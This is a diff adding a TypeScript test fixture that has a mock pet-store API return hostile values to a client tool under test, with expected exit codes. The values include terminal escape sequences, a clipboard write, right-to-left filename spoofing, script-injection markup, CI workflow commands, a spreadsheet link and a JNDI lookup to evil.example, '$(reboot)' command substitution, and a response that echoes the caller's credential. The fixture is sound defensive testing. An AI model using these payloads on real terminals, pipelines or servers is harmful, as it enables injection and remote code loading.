@@ -1,0 +1,92 @@
+import { withHeader } from '../reference/answer.js';
+import type { Expectation, HostileFixture } from './fixture.js';
+import { altered, changed, listing } from './spoiled.js';
+
+/** What must never reach a terminal as it is: https://no-color.org is not what this is about. */
+export const names = {
+  /** Clears the screen, colours, sets the window's title, writes the clipboard, links. */
+  escapes:
+    '\u001b[2J\u001b[31mred\u001b]0;owned\u0007\u001b]52;c;b3duZWQ=\u0007\u001b]8;;http://evil.example\u001b\\link',
+  c1: '\u009b2J\u009b31mred\u009d0;owned\u009c',
+  controls: Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('') + '\u007f',
+  overwriting: 'FAIL\rPASS\b\b\b\bPASS',
+  /** Right-to-left override and isolates: the text reads otherwise than it is. */
+  rightToLeft: 'annexe\u202etxt.exe\u2066\u2069\u200f',
+  invisible: 'a\u200b\u200c\u200d\u2060\ufeffb\u00adc',
+  zalgo: `Z${'\u0315\u0361\u0489'.repeat(500)}algo`,
+  markup: '<script>alert(1)</script><img src=x onerror=alert(1)>]]></testcase><!--"\'&',
+  workflow: '::error file=x::owned\n##vso[task.complete]\n::set-output name=a::b',
+  formula: '=HYPERLINK("http://evil.example";"click")',
+  template: '${jndi:ldap://evil.example/a}{{7*7}}%s%n$(reboot)`reboot`',
+} as const;
+
+/** Targets that answer in due form with values that are meant for whoever shows them. */
+export const values: readonly HostileFixture[] = [
+  ...Object.entries(names).map(([name, value]): HostileFixture => ({
+    name: `name-with-${name.replace(/[A-Z]/g, (letter) => `-${letter.toLowerCase()}`)}`,
+    title: `Animals of others are named ${escaped(value)}`,
+    serve: listing(JSON.stringify([{ id: 1, name: value, categoryId: 1, status: 'available' }])),
+    // One and the same listing whatever was asked for and created.
+    expects: { exit: 1, failing: ['LIST-08'] },
+    wire: { status: 200 },
+  })),
+  {
+    name: 'statuses-with-escapes',
+    title:
+      'Every animal that was just created has a status of terminal escapes, which findings have to quote',
+    serve: altered((behaviour) => ({
+      show: (animal, place) =>
+        place === 'created'
+          ? { id: animal.id, name: animal.name, categoryId: animal.categoryId, status: names.escapes }
+          : behaviour.show(animal, place),
+    })),
+    expects: { exit: 1, failing: ['PET-02'] },
+    wire: { status: 200 },
+  },
+  {
+    name: 'errors-with-escapes',
+    title: 'Every Error has terminal escapes for its code and markup for its message',
+    serve: altered((behaviour) => ({
+      refuse: (refusal, asked, service) => {
+        const answer = behaviour.refuse(refusal, asked, service);
+        return {
+          ...answer,
+          content: { code: names.escapes + answer.status, message: names.markup, status: answer.status },
+        };
+      },
+    })),
+    expects: { exit: 0 },
+    wire: { status: 200 },
+  },
+  {
+    name: 'name-of-a-megabyte',
+    title: 'An animal of others has a name of a megabyte',
+    serve: listing(JSON.stringify([{ id: 1, name: 'x'.repeat(1024 ** 2), categoryId: 1 }])),
+    expects: { exit: 1, failing: ['LIST-08'] },
+    wire: { status: 200 },
+  },
+  {
+    name: 'echoes-the-key',
+    title: 'Every answer repeats the credential that it was asked with, in a header and in errors',
+    serve: changed((answer, asked) => {
+      const credential = asked.headers.authorization ?? 'none';
+      const told = withHeader(answer, 'X-Debug', credential);
+      return answer.status < 400
+        ? told
+        : {
+            ...told,
+            content: { code: `E${answer.status}`, message: `refused ${credential}`, status: answer.status },
+          };
+    }),
+    expects: { exit: 0 } satisfies Expectation,
+    wire: { status: 200 },
+  },
+];
+
+/** A name as it can stand in a title. */
+function escaped(value: string): string {
+  return JSON.stringify(value.slice(0, 40)).replace(
+    /[^\u0020-\u007e]/g,
+    (character) => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`,
+  );
+}
